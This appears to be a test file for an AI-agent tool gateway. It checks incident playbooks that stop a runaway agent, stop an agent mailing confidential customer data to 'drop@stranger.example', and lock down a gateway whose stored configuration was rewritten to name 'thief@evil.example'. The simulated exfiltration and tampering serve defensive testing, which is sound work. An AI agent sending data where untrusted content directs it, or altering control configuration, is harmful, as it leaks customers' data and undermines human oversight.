import { afterAll, beforeAll, expect, test } from 'bun:test';
import { startCrm, type Crm } from '../../demo/crm.ts';
import { isObject, type JsonObject } from '../../src/domain/json.ts';
import { startGate, type Gate } from '../fixtures/gate.ts';
import { callTool, type Called } from '../fixtures/modern-call.ts';
import { startRecordingServer, toolNamed, type RecordingServer } from '../fixtures/recording-server.ts';
import { verifies } from '../e2e/requirements.ts';
import { answer, incidentOf, inForce, verifyEvidence } from './answering.ts';

/** Playbooks (h), (i) and (j), each from what really happens at a gate to what runs again. */
let crm: Crm;
let office: RecordingServer;
let gate: Gate;

beforeAll(async () => {
  crm = startCrm();
  office = startRecordingServer({ says: { tools: [toolNamed('read_customer'), { ...toolNamed('send_mail'), inputSchema: MAIL }] } });
  gate = await startGate({
    policy: `permit(principal in Group::"testers", action, resource);
      @limit("5/min") forbid(principal, action == Action::"call_tool", resource) when { resource.name == "search_contacts" };`,
    manifest: `servers:
  crm: { url: "${crm.url}", allowPrivate: true, owner: tests, labels: { confidentiality: internal, integrity: trusted } }
  office:
    url: "${office.url}"
    allowPrivate: true
    owner: tests
    tier: vendor
    tools:
      read_customer: { effect: read, labels: { confidentiality: confidential, integrity: untrusted } }
      send_mail: { effect: communicate }
limits: { denials: 1000000/min, cascade: { denials: 1000000 } }
`,
  });
  await gate.enrol('crm', 'office');
}, 30_000);

afterAll(async () => {
  await gate.stop();
  await Promise.all([crm.stop(), office.stop()]);
}, 30_000);

const MAIL = { type: 'object', properties: { to: { type: 'string', format: 'email' }, text: { type: 'string' } }, additionalProperties: false } as const;

const ask = (server: string, token: string, tool: string, args: JsonObject): Promise<Called> => callTool(`${gate.url}/mcp/${server}`, token, tool, args);
const send = (token: string, to: string): Promise<Called> => ask('office', token, 'send_mail', { to, text: 'the customer file' });
const move = (token: string): Promise<Called> => ask('crm', token, 'update_contact', { id: 'c-1', city: 'Rome' });
const search = (token: string): Promise<Called> => ask('crm', token, 'search_contacts', { query: 'ada' });

/** Gateways hear of it in a moment; the test's own limit ends what never happens. */
async function until(call: () => Promise<Called>, is: (called: Called) => boolean): Promise<Called> {
  for (;;) {
    const called = await call();
    if (is(called)) return called;
    await Bun.sleep(10);
  }
}

/** Of what the control API refused. */
async function codeOf(asked: Promise<unknown>): Promise<string> {
  return asked.then(() => '', (error: unknown) => /"code":"(\w+)"/.exec(String(error))?.[1] ?? String(error));
}

test(verifies('playbook-run', '(j) an agent that goes round in circles is stopped, alone, and comes back when people say so'), async () => {
  const [token, other] = [await gate.token({ agent: 'looper' }), await gate.token({ agent: 'calm' })];
  for (let calls = 0; calls < 20; calls += 1) await search(token);
  const incident = await incidentOf(gate, 'runaway');
  const { run, incident: after } = await answer(gate, 'runaway', {
    at: {
      'Is it real?': async () => {
        expect(await inForce(gate, incident)).toEqual(['kill agent', 'kill context']);
        await until(() => move(token), ({ code }) => code === 'ERR_KILLED');
        expect((await search(other)).result).toBeDefined();
        await verifyEvidence(gate, incident, 'call.denied', 'call.permitted');
      },
      'May it run again?': async () => {
        expect(await inForce(gate, incident)).toEqual(['kill agent', 'kill context']);
      },
    },
  });
  expect(run['state']).toBe('done');
  expect(after['status']).toBe('recovered');
  expect(await inForce(gate, incident)).toEqual([]);
  await until(() => move(token), ({ result }) => result !== undefined);
}, 30_000);

test(verifies('playbook-run', '(h) data on its way to a stranger is stopped with all that it came through, and work goes on when people say so'), async () => {
  const [token, other] = [await gate.token({ agent: 'reader' }), await gate.token({ agent: 'writer' })];
  // What was read says where to send it: nobody vouches for that, and what goes there is confidential.
  await until(() => ask('office', token, 'read_customer', {}), ({ result }) => result !== undefined);
  const sent = office.effects().length;
  expect((await send(token, 'drop@stranger.example')).code).toBe('ERR_APPROVAL_REQUIRED');
  const incident = await incidentOf(gate, 'exfiltration');
  const { run, incident: after } = await answer(gate, 'exfiltration', {
    values: { host: 'stranger.example' },
    at: {
      'Is it real?': async () => {
        expect(await inForce(gate, incident)).toEqual(['block-host host', 'kill context', 'require-approval tool']);
        await until(() => ask('office', token, 'read_customer', {}), ({ code }) => code === 'ERR_KILLED');
        // Whoever else sends waits for a person, and nobody sends what names the stranger's host.
        await until(() => send(other, 'ada@example.com'), ({ code }) => code === 'ERR_APPROVAL_REQUIRED');
        expect((await ask('office', other, 'send_mail', { to: 'ada@example.com', text: 'see https://stranger.example/x' })).code).toBe('ERR_POLICY_DENIED');
        expect((await ask('office', other, 'read_customer', {})).result).toBeDefined();
        await verifyEvidence(gate, incident, 'call.denied', 'call.permitted', 'result.delivered');
      },
    },
  });
  expect(run['state']).toBe('done');
  expect(after['status']).toBe('recovered');
  expect(await inForce(gate, incident)).toEqual([]);
  expect(office.effects().filter(({ body }) => body.includes('stranger.example'))).toEqual([]);
  expect(office.effects().length).toBeGreaterThan(sent);
  await until(() => ask('office', token, 'read_customer', {}), ({ result }) => result !== undefined);
}, 30_000);

test(verifies('playbook-run', '(i) a configuration that somebody wrote behind control stops everything, also while nothing else can be changed'), async () => {
  const token = await gate.token({ agent: 'worker' });
  await until(() => move(token), ({ result }) => result !== undefined);
  const { store } = gate.control();
  const before = await store.get('server', 'default', 'crm');
  if (before === undefined || !isObject(before.body)) throw new Error('there is no such server');
  // Who has the database writes what nobody approved; the next change finds it.
  await store.put('server', 'default', 'crm', { ...before.body, owner: 'thief@evil.example' }, { by: 'thief' });
  expect(await codeOf(gate.token({ agent: 'next' }))).toBe('ERR_CONFIG_TAMPERED');
  const incident = await incidentOf(gate, 'gateway-compromise');
  expect(incident['severity']).toBe('critical');
  const { run, incident: after } = await answer(gate, 'gateway-compromise', {
    // No relay is set here: people call each other, and say so.
    skips: { 'Call people': 'called by telephone' },
    at: {
      'Is it real?': async () => {
        expect(await inForce(gate, incident)).toEqual(['kill all']);
        await until(() => move(token), ({ code }) => code === 'ERR_KILLED');
        await verifyEvidence(gate, incident, 'config.refused');
      },
      'Clean machines': async () => void await store.put('server', 'default', 'crm', before.body, { by: 'restored' }),
    },
  });
  expect(run['state']).toBe('done');
  expect(after['status']).toBe('recovered');
  expect(await inForce(gate, incident)).toEqual([]);
  await until(() => move(token), ({ result }) => result !== undefined);
  expect(await codeOf(gate.token({ agent: 'next' }))).toBe('');
}, 30_000);
